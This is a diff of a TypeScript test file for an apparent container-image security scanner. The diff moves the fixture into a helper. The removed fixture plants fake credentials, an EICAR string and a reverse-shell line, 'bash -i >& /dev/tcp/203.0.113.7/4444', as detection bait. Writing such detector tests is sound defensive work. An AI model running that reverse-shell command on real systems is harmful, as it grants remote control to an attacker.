@@ -5,103 +5,22 @@
  * `--fail-on` gates and that no raw value reaches the result.
  */
 import assert from 'node:assert/strict';
-import { createHash } from 'node:crypto';
 import { mkdtemp, rm } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { after, before, describe, test } from 'node:test';
-import { makeZip } from '../catalog/analyzers/jar/zip-writer.test.js';
-import { AWS_EXAMPLE_KEY_ID } from '../content/secrets/noise.js';
-import { plantedValues, rsaPrivateKeyPem } from '../content/secrets/testing/tokens.js';
-import { eicarString } from '../content/threats/eicar.js';
 import type { ExceptionEntry } from '../model/exception.js';
 import { type ContentFinding, type ImageResult, ImageResultSchema } from '../model/result.js';
-import type { ImageSpec } from '../test-support/oci-image.js';
 import type { MemoryDb } from '../vulndb/testing/memory-db.js';
 import { type ScanOptions, scanImage } from './scan.js';
 import { memoryDb } from './testing/advisories.js';
 import { allAdvisories } from './testing/fixtures.js';
-import { DEBIAN_12_OS_RELEASE, dpkgStanza, ociInput } from './testing/images.js';
+import { ociInput } from './testing/images.js';
+import { plantedImage, sha256Hex } from './testing/planted.js';
 
 const NOW = new Date('2026-01-15T12:00:00Z');
-const v = plantedValues();
-const testKey = rsaPrivateKeyPem();
-const appKey = rsaPrivateKeyPem();
-const envToken = plantedValues().github;
-const argToken = plantedValues().npm;
-const eicar = eicarString();
-const sha = (s: string | Buffer) => createHash('sha256').update(s).digest('hex');
-const jar = makeZip([
-  { name: 'META-INF/MANIFEST.MF', data: 'Manifest-Version: 1.0\n' },
-  { name: 'samples/eicar.com', data: eicar, store: true },
-]);
-/** Every raw value planted anywhere: none may appear in a result. */
-const RAW = [
-  v.awsKeyId,
-  v.awsSecret,
-  v.github,
-  v.stripe,
-  v.generic,
-  envToken,
-  argToken,
-  appKey.split('\n')[1]!,
-];
-
-const spec: ImageSpec = {
-  layers: [
-    {
-      createdBy: '/bin/sh -c #(nop) ADD file:4b0e3a in / ',
-      files: [
-        { path: 'etc/os-release', content: DEBIAN_12_OS_RELEASE },
-        { path: 'var/lib/dpkg/status', content: dpkgStanza('libfoo-dev', '1.0-1') },
-        {
-          path: 'var/lib/dpkg/info/libfoo-dev.list',
-          content: '/.\n/usr/share/doc/libfoo-dev/examples/test-key.pem\n',
-        },
-        { path: 'usr/share/doc/libfoo-dev/examples/test-key.pem', content: testKey },
-        { path: 'usr/bin/passwd', content: 'ELF', mode: 0o4755 },
-      ],
-    },
-    {
-      createdBy: 'COPY app/ /app/ # buildkit',
-      files: [
-        {
-          path: 'app/.env',
-          content: `AWS_ACCESS_KEY_ID=${v.awsKeyId}\nAWS_SECRET_ACCESS_KEY=${v.awsSecret}\n`,
-        },
-        { path: 'app/config.json', content: `{"deploy": {"token": "${v.github}"}}\n` },
-        { path: 'app/stripe.txt', content: `charge with ${v.stripe}\n` },
-        { path: 'app/db.conf', content: `user=app\npassword=${v.generic}\n` },
-        { path: 'app/id_rsa', content: appKey },
-        { path: 'app/docs/example.env', content: `AWS_ACCESS_KEY_ID=${AWS_EXAMPLE_KEY_ID}\n` },
-        { path: 'app/template.env', content: `API_TOKEN=${'$'}{API_TOKEN}\npassword=changeme\n` },
-        { path: 'app/lib/tools.jar', content: jar },
-        { path: 'app/eicar.txt', content: `${eicar}\r\n` },
-        { path: 'app/run.sh', content: '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n' },
-        {
-          path: 'app/health.sh',
-          content:
-            '#!/bin/bash\nexec 3<>/dev/tcp/127.0.0.1/8080\necho -e "GET /health HTTP/1.0\\r\\n" >&3\ncat <&3\n',
-        },
-        { path: 'usr/local/bin/helper', content: '#!/bin/sh\n', mode: 0o4755 },
-      ],
-    },
-    {
-      createdBy: 'RUN /bin/sh -c rm /app/stripe.txt && echo ok > /app/db.conf # buildkit',
-      files: [
-        { path: 'app/.wh.stripe.txt', content: '' },
-        { path: 'app/db.conf', content: 'user=app\n' },
-      ],
-    },
-  ],
-  emptyHistory: [
-    { beforeLayer: 1, createdBy: '/bin/sh -c #(nop)  CMD ["bash"]' },
-    { beforeLayer: 2, createdBy: `|1 NPM_TOKEN=${argToken} /bin/sh -c npm ci # buildkit` },
-  ],
-  config: {
-    Env: ['PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', `GITHUB_TOKEN=${envToken}`],
-  },
-};
+const { spec, raw: RAW, eicar, appKey, values: v, argToken } = plantedImage();
+const sha = sha256Hex;
 
 let work: string;
 let db: MemoryDb;
